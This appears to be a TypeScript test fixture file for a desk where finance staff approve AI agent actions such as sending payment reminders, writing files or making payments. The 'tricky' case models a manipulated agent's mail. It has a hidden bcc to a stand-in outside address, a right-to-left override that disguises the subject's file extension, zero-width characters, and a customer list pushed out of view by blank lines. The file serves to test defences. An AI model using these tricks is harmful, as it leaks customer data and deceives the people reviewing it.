// SPDX-License-Identifier: EUPL-1.2
import type { Case, CaseContent, CaseSummary, Rule } from '../../../packages/desk/src/api-cases.ts'

const minute = 60_000

export const needsFinance: Rule = {
  id: 'outside-mail-needs-finance',
  effect: 'forbid',
  explanation: {
    nl: 'Mail naar buiten wordt eerst door een mens bekeken.',
    en: 'A person looks at mail before it goes outside.',
  },
  remedy: 'approve:finance',
}

export const mayMail: Rule = {
  id: 'reporter-may-mail',
  effect: 'permit',
  explanation: {
    nl: 'De agent mag mailen, binnen de regels hieronder.',
    en: 'The agent may send mail, within the rules below.',
  },
}

export const mayRead: Rule = {
  id: 'reporter-may-read-the-books',
  effect: 'permit',
  explanation: { nl: 'De agent mag de administratie lezen.', en: 'The agent may read the books.' },
}

export const ownDebtorOnly: Rule = {
  id: 'invoice-only-to-its-debtor',
  effect: 'forbid',
  explanation: {
    nl: 'Een factuur gaat alleen naar de debiteur zelf, met alleen zijn eigen facturen.',
    en: "An invoice goes only to its own debtor, with that debtor's invoices only.",
  },
}

/** A long mail, told as one of some megabytes: what the API gives again and again, and what it gives apart. */
export function large(): { readonly held: Case; readonly content: CaseContent } {
  const { arguments: given, attachments, facts, ...held } = reminder()
  const body = `${Array.from({ length: 20_000 }, (_, at) => `Regel ${at} van een heel lange brief`).join('\n')}\nDe allerlaatste regel`
  const mail = { to: Array.from({ length: 250 }, (_, at) => `klant${at}@bakker.example`), subject: 'Lang', text: body }
  return {
    held: {
      ...{ ...held, id: 'case-large', digest: 'digest-large', arguments: null, attachments: [], facts: {} },
      contentBytes: 3_900_000,
    },
    content: { arguments: mail, attachments, context: facts },
  }
}

const text = `Geachte heer Bakker,

Onze factuur 2026-0103 van € 1.210,00 had op 30 oktober betaald moeten zijn. Wij hebben uw betaling nog niet ontvangen.

Wilt u het bedrag binnen zeven dagen overmaken? Hebt u al betaald, dan kunt u deze herinnering als niet verzonden beschouwen.

Met vriendelijke groet,
Verhage Techniek B.V.`

/** A reminder that is as it should be: to the debtor, with the debtor's own invoice. */
export function reminder(): Case {
  const now = Date.now()
  return {
    id: 'case-reminder',
    state: 'open',
    openedAt: now - 12 * minute,
    expiresAt: now + 7 * 60 * minute,
    digest: 'digest-reminder',
    number: 17,
    agent: { id: 'reporter', name: 'Weekly report agent' },
    system: {
      id: 'weekly-report',
      name: 'Weekly sales report and reminders',
      purpose: 'Prepares the weekly sales report for the team, and reminds customers of overdue invoices.',
      accountable: { id: 'anna', name: 'Anna Verhage' },
    },
    run: 'run-4f1c',
    task: 'Weekly sales report',
    tool: 'mail_send',
    arguments: {
      to: ['info@bakker.example'],
      subject: 'Herinnering: factuur 2026-0103',
      text,
      attachments: [{ document: 'invoices/2026-0103.xml' }],
    },
    attachments: [
      {
        name: 'invoices/2026-0103.xml',
        bytes: 8421,
        sha256: 'b1946ac92492d2347c6235b4d2611184b1946ac92492d2347c6235b4d2611184',
      },
    ],
    facts: {
      labels: ['untrusted', 'personal'],
      findings: ['email'],
      approvals: [],
      mail: { recipients: ['info@bakker.example'], outsideRecipients: ['info@bakker.example'] },
      documents: {
        invoices: 1,
        others: 0,
        debtors: 1,
        debtorAddresses: ['info@bakker.example'],
        allOverdueAndUnpaid: true,
        openCents: 121_000,
        customers: ['10023'],
      },
    },
    labels: ['untrusted', 'personal', 'customer:10023'],
    findings: ['email'],
    rules: [needsFinance, mayMail],
    body: {
      id: 'finance',
      name: 'Finance',
      quorum: 1,
      approvals: 0,
      members: [{ id: 'sanne', name: 'Sanne Kuipers' }],
    },
    verdicts: [],
    notified: true,
    mayDecide: true,
    mayVeto: false,
  }
}

/** What an agent that has read something bad would send: a secret recipient, and a last line far out of sight. */
export function tricky(): Case {
  return {
    ...reminder(),
    id: 'case-tricky',
    digest: 'digest-tricky',
    number: 18,
    expiresAt: Date.now() + 4 * minute,
    arguments: {
      to: ['info@bakkerij.example', 'team@verhage.example'],
      bcc: ['drop@outside.example'],
      subject: 'Herinnering \u202efdp.5010-6202',
      text: `Beste klant,${'\n'.repeat(60)}Klantenlijst: zie onder.\u200b\u200b\u200b\u200b`,
      attachments: [{ document: 'invoices/2026-0105.xml' }],
    },
    attachments: [
      {
        name: 'invoices/2026-0105.xml',
        bytes: 1_204_000,
        sha256: '591785b794601e212b260e25925636fd591785b794601e212b260e25925636fd',
      },
    ],
    facts: {
      mail: {
        recipients: ['drop@outside.example', 'info@bakkerij.example', 'team@verhage.example'],
        outsideRecipients: ['drop@outside.example', 'info@bakkerij.example'],
      },
      documents: {
        invoices: 1,
        others: 0,
        debtors: 1,
        debtorAddresses: ['info@bakker.example'],
        allOverdueAndUnpaid: false,
        openCents: 0,
        customers: ['10023'],
      },
    },
    findings: ['email', 'bsn'],
    body: {
      id: 'finance',
      name: 'Finance',
      quorum: 2,
      approvals: 1,
      members: [
        { id: 'sanne', name: 'Sanne Kuipers' },
        { id: 'piet', name: 'Piet de Wit' },
      ],
    },
    verdicts: [{ person: { id: 'piet', name: 'Piet de Wit' }, verdict: 'approve', at: Date.now() - minute }],
    notified: false,
  }
}

/** A tool that is no mail. */
export function otherTool(): Case {
  return {
    ...reminder(),
    id: 'case-tool',
    digest: 'digest-tool',
    number: 19,
    tool: 'books_write_file',
    arguments: { path: 'notes/besluit.txt', content: 'Nieuwe regel', overwrite: true },
    attachments: [],
    facts: { folder: 'notes', isNew: false },
    findings: [],
    labels: [],
  }
}

/** A payment: nothing was looked up about it, and its amount is what the agent says. */
export function payment(): Case {
  return {
    ...otherTool(),
    id: 'case-payment',
    digest: 'digest-payment',
    tool: 'bank_pay',
    arguments: { amount: 1250.5, to: 'NL00 BANK 0123' },
    facts: { amount: { cents: 125_050 } },
    labels: ['unproposed'],
  }
}

/** Somebody edited it; what it became stands in `case-edited-next`. */
export function edited(): Case {
  const original = reminder()
  return {
    ...original,
    id: 'case-edited',
    state: 'edited',
    digest: 'digest-edited',
    openedAt: Date.now() - 90 * minute,
    decidedAt: Date.now() - 60 * minute,
    verdicts: [{ person: { id: 'sanne', name: 'Sanne Kuipers' }, verdict: 'edit', at: Date.now() - 60 * minute }],
    successor: 'case-edited-next',
    mayDecide: false,
  }
}

export function editedNext(): Case {
  const original = reminder()
  return {
    ...original,
    id: 'case-edited-next',
    state: 'used',
    digest: 'digest-edited-next',
    openedAt: Date.now() - 60 * minute,
    decidedAt: Date.now() - 60 * minute,
    arguments: {
      to: ['info@bakker.example'],
      subject: 'Herinnering: factuur 2026-0103',
      text: text.replace('zeven dagen', 'veertien dagen'),
      attachments: [{ document: 'invoices/2026-0103.xml' }],
    },
    before: original.arguments,
    replaces: 'case-edited',
    body: { ...original.body, approvals: 1 },
    verdicts: [{ person: { id: 'sanne', name: 'Sanne Kuipers' }, verdict: 'approve', at: Date.now() - 60 * minute }],
    mayDecide: false,
  }
}

export function summaryOf(held: Case): CaseSummary {
  const mayAct = held.state === 'open' && (held.mayDecide || held.mayVeto)
  const { id, state, openedAt, expiresAt, agent, tool, body, rules } = held
  const summary = JSON.stringify(held.arguments)
  const named = { id: body.id, name: body.name }
  const ids = rules.filter(({ effect }) => effect === 'forbid').map((rule) => rule.id)
  return {
    id,
    state,
    openedAt,
    expiresAt,
    agent,
    tool,
    summary: short(held) ?? summary,
    body: named,
    rules: ids,
    mayAct,
  }
}

function short(held: Case): string | undefined {
  const given: { to?: readonly string[]; subject?: string } = Object(held.arguments)
  if (given.to === undefined) return undefined
  return [given.to.join(', '), given.subject, ...held.attachments.map(({ name }) => name)].join(' · ')
}
